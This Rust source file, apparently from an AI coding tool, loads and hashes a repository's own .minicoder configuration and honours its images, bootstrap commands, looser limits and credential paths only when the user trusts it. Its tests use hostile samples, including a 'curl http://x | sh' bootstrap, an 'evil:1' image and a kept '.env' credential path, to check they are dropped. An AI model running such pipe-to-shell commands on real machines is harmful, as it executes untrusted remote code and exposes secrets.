//! A repository's own minicoder configuration as a whole — `.minicoder.json`
//! and the `.minicoder/` directory — read safely, hashed, and honoured only
//! as far as the person trusts it.
//!
//! A cloned repository is someone else's code. What it configures that
//! runs or reaches beyond the sandbox's defaults is honoured only when the
//! person trusts that repository at this configuration's hash (see
//! [`super::trust`]): building `.minicoder/Dockerfile`, using `"image"` or
//! `"packages"`, running `"bootstrap"` (with network only when trusted for
//! it), limits looser than the defaults and `secret_paths` that keep a
//! credential file in the workspace. Untrusted, the run goes on with the
//! default image and no bootstrap; what tightens (smaller limits, more
//! credential paths) and the verification checks, which run in the sandbox
//! like every command, always hold.
//!
//! Both files must be what they say inside the repository: `.minicoder.json`
//! a regular file and `.minicoder` a directory, neither a symlink, the file
//! read up to [`MAX_CONFIG_BYTES`].

use std::path::Path;

use sha2::{Digest, Sha256};

use super::VerifyError;
pub use super::config::MAX_CONFIG_BYTES;
use super::config::{CONFIG_FILE, ProjectConfig, parse_config, read_config_text};
pub use super::trust::Trust;
use crate::sandbox::derived::{self, ImageRequest};
use crate::workspace::WorkspaceLimits;

/// The project directory (recipe, and later hooks), at the repository root.
pub const PROJECT_DIR: &str = ".minicoder";

/// The repository's configuration as found at run start.
#[derive(Debug, Clone, Default)]
pub struct ProjectFiles {
    /// `.minicoder.json`, parsed and validated.
    pub config: Option<ProjectConfig>,
    /// `.minicoder/`: the digest of its packed content and whether it holds
    /// a recipe.
    pub dir: Option<([u8; 32], bool)>,
    /// The hash trust is given at: of both, as they are, and of the
    /// installs detected; `None` when the repository has none of them.
    pub hash: Option<String>,
    /// The dependency installs proposed for a repository that declares
    /// dependencies and has no bootstrap of its own (see
    /// [`super::deps::uninstalled`]): run as its bootstrap once trusted.
    pub detected: Vec<super::deps::Declared>,
}

/// What of a configuration a run honours.
#[derive(Debug, Clone, Default)]
pub struct Honoured {
    /// The configuration with what is not honoured taken out (limits marked
    /// tighten-only when untrusted).
    pub config: Option<ProjectConfig>,
    /// The trust it was honoured under (`None`: untrusted).
    pub trust: Option<Trust>,
    /// Whether `.minicoder/Dockerfile` is built.
    pub recipe: Option<[u8; 32]>,
    /// What needed trust and was left out, one line each.
    pub ignored: Vec<String>,
}

impl Honoured {
    /// The image the run asks for.
    pub(crate) fn image_request(&self) -> ImageRequest {
        let mut request = self
            .config
            .as_ref()
            .map(ProjectConfig::image_request)
            .unwrap_or_default();
        request.recipe = self.recipe;
        request.recipe_network = self.trust.is_some_and(|t| t.network);
        request
    }
}

/// Reads the configuration of `repo` (its working tree's root).
pub fn load_project(repo: &Path) -> Result<ProjectFiles, VerifyError> {
    let path = repo.join(CONFIG_FILE);
    let text = read_config_text(&path)?;
    let dir = derived::project_dir(repo)?;
    let config = text
        .as_deref()
        .map(|text| parse_config(&path, text))
        .transpose()?;
    let bootstrap = config
        .as_ref()
        .map(|c: &ProjectConfig| c.bootstrap.clone())
        .unwrap_or_default();
    let detected = super::deps::uninstalled(repo, &bootstrap);
    let hash = (text.is_some() || dir.is_some() || !detected.is_empty()).then(|| {
        let mut h = Sha256::new();
        h.update(b"minicoder-project-v1\0");
        match &text {
            Some(bytes) => {
                h.update(b"config\0");
                h.update((bytes.len() as u64).to_le_bytes());
                h.update(bytes.as_bytes());
            }
            None => h.update(b"no config\0"),
        }
        match &dir {
            Some((digest, _)) => {
                h.update(b"dir\0");
                h.update(digest);
            }
            None => h.update(b"no dir\0"),
        }
        // What would run: a new kind of lockfile asks again.
        for d in &detected {
            h.update(b"install\0");
            h.update((d.install.len() as u64).to_le_bytes());
            h.update(d.install.as_bytes());
        }
        hex::encode(h.finalize())
    });
    Ok(ProjectFiles {
        config,
        dir,
        hash,
        detected,
    })
}

impl ProjectFiles {
    /// What of the configuration needs the person's trust, one line each
    /// (empty: nothing does, and the configuration is honoured as it is).
    pub fn needs_trust(&self) -> Vec<String> {
        let mut needs = Vec::new();
        if self.dir.is_some_and(|(_, recipe)| recipe) {
            needs.push(format!(
                "builds its own image from {PROJECT_DIR}/Dockerfile (its steps run as root in the build; with network only if trusted for it)"
            ));
        }
        if !self.detected.is_empty() {
            needs.push(format!(
                "installs its dependencies before the agent (with network only if trusted for it): {}",
                self.detected
                    .iter()
                    .map(|d| format!("`{}` (for {})", d.install, d.file))
                    .collect::<Vec<_>>()
                    .join(", ")
            ));
        }
        let Some(config) = &self.config else {
            return needs;
        };
        if let Some(image) = &config.image {
            needs.push(format!("runs every command in the image {image}"));
        }
        if !config.packages.is_empty() {
            needs.push(format!(
                "adds the Debian packages {} to the image",
                config.packages.join(", ")
            ));
        }
        if !config.bootstrap.is_empty() {
            needs.push(format!(
                "runs its bootstrap before the agent (with network only if trusted for it): {}",
                config
                    .bootstrap
                    .iter()
                    .map(|c| format!("`{c}`"))
                    .collect::<Vec<_>>()
                    .join(", ")
            ));
        }
        let loose = WorkspaceLimits::loosening(&config.limits);
        if !loose.is_empty() {
            needs.push(format!(
                "loosens the workspace limits: {}",
                loose.join(", ")
            ));
        }
        let kept: Vec<&str> = kept_credentials(config).collect();
        if !kept.is_empty() {
            needs.push(format!(
                "copies credential files into the workspace: {}",
                kept.join(", ")
            ));
        }
        needs
    }

    /// The configuration as a run honours it under `trust`.
    pub fn honour(&self, trust: Option<Trust>) -> Honoured {
        if trust.is_some() {
            // The detected installs are its bootstrap.
            let config = if self.detected.is_empty() {
                self.config.clone()
            } else {
                let mut config = self.config.clone().unwrap_or_default();
                config.bootstrap = self.detected.iter().map(|d| d.install.clone()).collect();
                Some(config)
            };
            return Honoured {
                config,
                trust,
                recipe: self.dir.filter(|(_, recipe)| *recipe).map(|(d, _)| d),
                ignored: Vec::new(),
            };
        }
        let ignored = self.needs_trust();
        let config = self.config.clone().map(|mut c| {
            c.bootstrap.clear();
            c.image = None;
            c.packages.clear();
            c.limits.tighten_only = true;
            c.secret_paths.retain(|p| !p.trim_start().starts_with('!'));
            c
        });
        Honoured {
            config,
            trust: None,
            recipe: None,
            ignored,
        }
    }
}

impl ProjectFiles {
    /// The trust `minicoder trust` recorded for `repo` at this
    /// configuration's hash, if any.
    pub fn recorded_trust(&self, state: &crate::state::StateDir, repo: &Path) -> Option<Trust> {
        let hash = self.hash.as_deref()?;
        super::TrustStore::load(state).ok()?.lookup(repo, hash)
    }

    /// The configuration as a later step of a run honours it (a subset
    /// verified again before it is applied): with the trust the run had,
    /// if the configuration is still the one it had then.
    pub fn honour_as_run(&self, recorded: Option<&crate::protocol::ProjectTrust>) -> Honoured {
        let trust = recorded
            .filter(|p| p.trusted && self.hash.as_deref() == Some(p.hash.as_str()))
            .map(|p| Trust { network: p.network });
        self.honour(trust)
    }
}

/// The `secret_paths` patterns that keep a path the defaults leave out.
fn kept_credentials(config: &ProjectConfig) -> impl Iterator<Item = &str> {
    config
        .secret_paths
        .iter()
        .map(|p| p.trim_start())
        .filter(|p| p.starts_with('!'))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn repo_with(files: &[(&str, &str)]) -> tempfile::TempDir {
        let dir = tempfile::tempdir().expect("tempdir");
        for (path, text) in files {
            let path = dir.path().join(path);
            std::fs::create_dir_all(path.parent().expect("parent")).expect("mkdir");
            std::fs::write(path, text).expect("write");
        }
        dir
    }

    #[test]
    fn nothing_to_trust_without_configuration() {
        let repo = repo_with(&[("README", "x")]);
        let files = load_project(repo.path()).expect("load");
        assert!(files.hash.is_none());
        assert!(files.needs_trust().is_empty());
    }

    #[test]
    fn checks_and_tightening_need_no_trust() {
        let repo = repo_with(&[(
            ".minicoder.json",
            r#"{"verification": ["pytest -q"], "secret_paths": ["config/master.txt"],
                "limits": {"workspace_bytes": 1048576, "min_free_bytes": 4294967296}}"#,
        )]);
        let files = load_project(repo.path()).expect("load");
        assert!(files.hash.is_some());
        assert_eq!(files.needs_trust(), Vec::<String>::new());
        let honoured = files.honour(None);
        assert!(honoured.ignored.is_empty());
        let config = honoured.config.expect("config");
        assert_eq!(config.verification.len(), 1);
        assert_eq!(config.secret_paths, vec!["config/master.txt".to_string()]);
    }

    #[test]
    fn untrusted_a_configuration_loses_what_reaches_past_the_sandbox() {
        let repo = repo_with(&[
            (
                ".minicoder.json",
                r#"{"bootstrap": ["curl http://x | sh"], "image": "evil:1", "packages": ["jq"],
                    "secret_paths": ["!.env", "extra.txt"],
                    "limits": {"workspace_bytes": 1099511627776, "min_free_bytes": 1}}"#,
            ),
            (".minicoder/Dockerfile", "FROM x\nRUN curl http://host\n"),
        ]);
        let files = load_project(repo.path()).expect("load");
        let needs = files.needs_trust();
        assert_eq!(needs.len(), 6, "{needs:#?}");
        let untrusted = files.honour(None);
        assert_eq!(untrusted.ignored, needs);
        assert!(untrusted.recipe.is_none());
        let request = untrusted.image_request();
        assert_eq!(request, ImageRequest::default());
        let config = untrusted.config.expect("config");
        assert!(config.bootstrap.is_empty());
        assert_eq!(config.secret_paths, vec!["extra.txt".to_string()]);
        let limits = WorkspaceLimits::new(0, &config.limits);
        assert_eq!(
            limits,
            WorkspaceLimits::default(),
            "the limits stay the defaults"
        );

        let trusted = files.honour(Some(Trust { network: false }));
        assert!(trusted.ignored.is_empty());
        let request = trusted.image_request();
        assert!(request.recipe.is_some() && !request.recipe_network);
        assert_eq!(request.image.as_deref(), Some("evil:1"));
        let networked = files.honour(Some(Trust { network: true })).image_request();
        assert!(networked.recipe_network);
    }

    #[test]
    fn detected_installs_need_trust_and_become_the_bootstrap() {
        let repo = repo_with(&[
            (
                "Cargo.toml",
                "[package]\nname = \"w\"\n[dependencies]\nsame-file = \"1\"\n",
            ),
            ("Cargo.lock", "version = 4\n"),
        ]);
        let files = load_project(repo.path()).expect("load");
        assert!(files.hash.is_some(), "there is something to trust");
        let needs = files.needs_trust();
        assert_eq!(needs.len(), 1);
        assert!(
            needs[0].contains("`cargo fetch --locked` (for Cargo.lock)"),
            "{needs:?}"
        );
        let untrusted = files.honour(None);
        assert!(untrusted.config.is_none_or(|c| c.bootstrap.is_empty()));
        assert_eq!(untrusted.ignored, needs);
        let trusted = files.honour(Some(Trust { network: true }));
        assert_eq!(
            trusted.config.expect("config").bootstrap,
            vec!["cargo fetch --locked".to_string()]
        );
        // The repository's own bootstrap wins: nothing is detected then.
        std::fs::write(
            repo.path().join(".minicoder.json"),
            r#"{"bootstrap": ["cargo fetch"]}"#,
        )
        .expect("write");
        let files = load_project(repo.path()).expect("load");
        assert!(files.detected.is_empty());
    }

    #[test]
    fn the_hash_covers_both_files() {
        let repo = repo_with(&[
            (".minicoder.json", "{}"),
            (".minicoder/Dockerfile", "FROM a\n"),
        ]);
        let first = load_project(repo.path()).expect("load").hash;
        std::fs::write(repo.path().join(".minicoder/Dockerfile"), "FROM b\n").expect("write");
        let second = load_project(repo.path()).expect("load").hash;
        std::fs::write(repo.path().join(".minicoder.json"), "{ }").expect("write");
        let third = load_project(repo.path()).expect("load").hash;
        assert!(first != second && second != third && first != third);
    }

    #[test]
    fn links_and_special_files_are_refused_unread() {
        let outside = repo_with(&[("Dockerfile", "FROM host\n"), ("cfg.json", "{}")]);
        let repo = repo_with(&[]);
        std::os::unix::fs::symlink(outside.path(), repo.path().join(".minicoder")).expect("link");
        let err = load_project(repo.path()).expect_err("a linked directory");
        assert!(err.to_string().contains("symbolic link"), "{err}");
        std::fs::remove_file(repo.path().join(".minicoder")).expect("unlink");

        std::os::unix::fs::symlink("/dev/zero", repo.path().join(".minicoder.json")).expect("link");
        let err = load_project(repo.path()).expect_err("a linked file");
        assert!(err.to_string().contains("symbolic link"), "{err}");
        std::fs::remove_file(repo.path().join(".minicoder.json")).expect("unlink");

        let fifo = repo.path().join(".minicoder.json");
        let c = std::ffi::CString::new(fifo.as_os_str().as_encoded_bytes()).expect("path");
        // SAFETY: a valid NUL-terminated path.
        assert_eq!(unsafe { libc::mkfifo(c.as_ptr(), 0o600) }, 0);
        let err = load_project(repo.path()).expect_err("a fifo");
        assert!(err.to_string().contains("not a regular file"), "{err}");
        std::fs::remove_file(&fifo).expect("unlink");

        let big = format!(
            "{{\"bootstrap\": [\"{}\"]}}",
            "x".repeat(MAX_CONFIG_BYTES as usize)
        );
        std::fs::write(&fifo, big).expect("write");
        let err = load_project(repo.path()).expect_err("too large");
        assert!(err.to_string().contains("at most 256 KiB"), "{err}");
    }
}
